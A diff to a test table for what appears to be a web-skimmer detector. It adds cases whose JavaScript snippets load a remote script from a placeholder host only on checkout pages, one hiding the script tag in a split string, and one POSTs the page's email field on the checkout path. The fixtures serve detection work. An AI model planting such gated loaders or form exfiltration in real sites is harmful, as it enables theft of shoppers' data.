@@ -149,6 +149,14 @@ const cases: Record<string, [string, string[]]> = {
     `if(/onepage|checkout/.test(location.href)){var s=document.createElement('script');s.src='https://x.example/a.js';document.head.appendChild(s)}`,
     ['medium checkout-gate'],
   ],
+  'checkout pages in a list, and a script in markup': [
+    `var l=['onepage|checkout|onestep','<script src="https://x.example/a.js"></scr'+'ipt>'];if(new RegExp(l[0]).test(location))document.write(l[1])`,
+    ['medium checkout-gate'],
+  ],
+  'a page compared with the checkout': [
+    `var p=location.pathname;if(p=='/checkout/'){fetch('/x',{method:'POST',body:document.getElementById('email').value})}`,
+    ['low checkout-gate'],
+  ],
   'sales counted where the shop says thanks': [
     `if(location.pathname.match(/checkouts.+thank_you/)){var s=document.createElement('script');s.src='https://x.example/a.js';document.head.appendChild(s)}`,
     [],
